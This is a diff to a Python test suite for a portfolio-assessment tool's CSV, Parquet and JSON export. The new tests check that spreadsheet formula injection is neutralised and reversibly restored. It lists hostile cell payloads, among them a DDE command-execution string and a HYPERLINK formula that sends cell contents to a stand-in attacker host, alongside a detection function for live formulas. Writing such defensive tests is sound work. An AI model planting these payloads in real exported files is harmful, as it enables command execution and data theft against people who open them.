@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
 from pathlib import Path
 
 import numpy as np
@@ -30,7 +31,7 @@ from salespath.rules.model import PROCESSES
 from salespath.tables import csv_reader
 from salespath.tables.assessed import AHEAD, work_ahead
 from salespath.tables.batch import Batch
-from salespath.tables.csv_cells import guard, quote
+from salespath.tables.csv_cells import guard, quote, unguard
 from salespath.tables.header import RESULTS
 from salespath.tables.read import CompaniesFile
 from salespath.tables.result_columns import ResultColumns, Wording
@@ -105,7 +106,7 @@ def portfolio(tmp_path_factory) -> Path:
                 cell_text(VOCABULARY[name], case.values[name]) if name in case.values else "" for name in VOCABULARY
             ]
             if number % 10 == 9:
-                cells[list(VOCABULARY).index("monthly_burn")] = "-5"
+                cells[list(VOCABULARY).index("monthly_burn")] = "lots"
             writer.writerow([case.company, *cells])
     return path
 
@@ -152,7 +153,7 @@ def test_csv_says_what_one_company_at_a_time_says(portfolio, assessments, tmp_pa
 
 def test_json_is_one_array_of_the_documents(tmp_path):
     summary, _ = run([REAL], tmp_path / "out.json")
-    assert str(summary) == "32 companies: 32 assessed, 0 rejected."
+    assert str(summary) == "32 rows: 32 companies assessed, 0 rejected."
     found = json.loads((tmp_path / "out.json").read_text())
     assert found == json.loads(
         json.dumps([document(assess(BASE, c), table=True) for c in CompaniesFile(BASE, REAL).portfolio().cases])
@@ -234,21 +235,85 @@ def test_a_cell_never_becomes_a_formula(tmp_path):
     assert rows == [
         ["company", "'=head", "product_stage", "comment"],
         ["'=cmd()", "+1", "pilot", "'@SUM(A1,A2)"],
-        ["-5", "-", "pilot", "'\t=1"],
+        ["-5", "-", "pilot", "'\t'=1"],
         ["'+40 721", "'-2+3", "pilot", "fine"],
     ]
 
 
-@given(st.lists(st.one_of(st.none(), st.text(TEXT, max_size=6), st.text(st.sampled_from('=+-@\t\r\n,"1.a')))))
+def live(cell: str) -> bool:
+    """Whether a spreadsheet may run a cell, or a part of it where that is a cell of its own: told without what guards it."""
+    for part in re.split(r"[;|\t\r\n]", cell):
+        said = part.lstrip(' "\xa0')
+        plain = re.fullmatch(r"-|[-+]?(\d[\d,]*(\.\d*)?|\.\d+)(e[-+]?\d+)?%?", said, re.ASCII | re.IGNORECASE)
+        if said[:1] and said[0] in "=+-@＝＋－＠" and not plain:
+            return True
+    return cell.lstrip(' "\xa0')[:1] in tuple("\t\r\n")
+
+
+HOSTILE = (
+    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠A1", ";=1+1", "a;=1", "a\t=1", "a\n=1",
+    " =1", '"=1', "\xa0=1", "; \"=1", "'=1", "''=1", "a;'=1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A2)',
+    "-2+3", "+40 721", "--1", "1;-5;=1", "\t\t=1", "'\t'=1",
+)  # fmt: skip
+
+
+def test_no_text_becomes_a_formula_wherever_it_is_opened():
+    safe = guard(pa.array(HOSTILE))
+    assert [cell for cell in safe.to_pylist() if live(cell)] == []
+    assert unguard(safe).to_pylist() == list(HOSTILE)
+    for harmless in ("-5", "+1.5e3", "-", "12%", "a - b", "a=b", "1;-5", "e-mail@example.org", "-1,234.50", ""):
+        assert guard(pa.array([harmless])).to_pylist() == [harmless]
+
+
+@given(
+    st.lists(st.one_of(st.none(), st.text(TEXT, max_size=6), st.text(st.sampled_from("=+-@\t\r\n;|'\" \xa0＝,1.a"))))
+)
 def test_guarded_and_quoted_cells_read_back(texts):
     safe = guard(pa.array(texts, pa.string())).to_pylist()
-    for text, cell in zip(texts, safe):
-        assert cell in (text, f"'{text}")
-        if cell and cell[0] in "=+-@\t\r":
-            assert cell == "-" or float(cell.replace(",", "").rstrip("%")) is not None
+    for cell in safe:
+        assert not live(cell or "")
+    assert unguard(pa.array(safe, pa.string())).to_pylist() == texts
     cells = [cell or "" for cell in quote(pa.array(safe, pa.string())).to_pylist()]
     (row,) = csv.reader(io.StringIO(",".join(["x", *cells, "x"]), newline=""), strict=True)
     assert row[1:-1] == [text or "" for text in safe]
+
+
+def test_a_guarded_table_reads_back_as_it_was(tmp_path):
+    texts = [text for text in HOSTILE if "\r" not in text and "\n" not in text]
+    table = pa.table(
+        {"company": [f"Co {text}" for text in texts], "=own": texts, "product_stage": ["pilot"] * len(texts)}
+    )
+    pyarrow.parquet.write_table(table, tmp_path / "in.parquet")
+    run([tmp_path / "in.parquet"], tmp_path / "1.csv")
+    run([tmp_path / "1.csv"], tmp_path / "2.csv")
+    run([tmp_path / "2.csv"], tmp_path / "out.parquet")
+    assert (tmp_path / "1.csv").read_bytes() == (tmp_path / "2.csv").read_bytes()
+    back = pyarrow.parquet.read_table(tmp_path / "out.parquet")
+    assert back["=own"].to_pylist() == texts
+    assert back["company"].to_pylist() == table["company"].to_pylist()
+
+
+def test_what_rules_say_becomes_no_formula(tmp_path):
+    rules = """
+        rules:
+          - id: zz-a
+            when: reachable_customers >= 1
+            weigh: {process: smb, certainty: 0.95, line: reach}
+            because: '=HYPERLINK("http://evil.example/?"&A2&B2,"open")'
+            source: [K01]
+          - id: zz-b
+            when: reachable_customers >= 1
+            advise: {topic: team, choice: '=1+1;=2,"x"', process: any, text: t}
+            because: Because.
+            source: [K01]
+    """
+    (tmp_path / "in.csv").write_text("company,reachable_customers\nSecret Co,5000\n")
+    assess_to_file(small_base(rules), [str(tmp_path / "in.csv")], str(tmp_path / "out.csv"), list)
+    with open(tmp_path / "out.csv", newline="") as file:
+        (row,) = csv.DictReader(file, strict=True)
+    assert row["reason_texts"].startswith("'=HYPERLINK")
+    assert row["advice"] == 'team:=1+1;\'=2,"x"'
+    assert not any(live(cell) for cell in row.values())
 
 
 @pytest.mark.parametrize("kind", ["csv", "parquet", "json"])
